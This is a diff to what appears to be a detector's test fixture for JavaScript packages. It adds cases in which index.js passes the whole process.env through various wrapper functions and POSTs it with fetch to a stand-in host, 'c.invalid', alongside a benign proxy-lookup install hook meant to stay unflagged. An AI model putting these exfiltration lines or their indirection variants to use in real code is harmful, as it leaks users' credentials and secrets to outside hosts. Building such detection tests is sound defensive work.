@@ -443,8 +443,27 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
       weight: 'strong',
     },
+    ...[
+      'function all(env) { return env.HOME && arguments[0]; }',
+      'const all = env => env.HOME && env.valueOf();',
+      'const all = env => ({ home: env.HOME, ...env });',
+      'const all = (env, other = env) => other;',
+      'const all = env => Object.keys(env).map(name => [name, env[name]]);',
+      'const all = env => { const { HOME, ...rest } = env; return rest; };',
+    ].map(all => ({
+      when: `all of it goes through a function of its own: ${all}`,
+      files: { 'index.js': `${all} fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all(process.env)) });` },
+      weight: 'proof' as const,
+    })),
   ],
   silent: [
+    {
+      when: 'a function is handed all of it and takes the name of a proxy',
+      files: {
+        'package.json': hook,
+        'setup.js': `const https = require('https'); function agentFor(env) { const proxy = env.HTTPS_PROXY || env.https_proxy || env?.npm_config_https_proxy; if (!proxy) return undefined; const { HttpsProxyAgent } = require('https-proxy-agent'); return new HttpsProxyAgent(proxy); } https.get('https://downloads.specimen.invalid/a', { agent: agentFor(process.env) }, answer => answer.resume());`,
+      },
+    },
     {
       when: 'it is told whether there is a database, of what kind',
       files: {
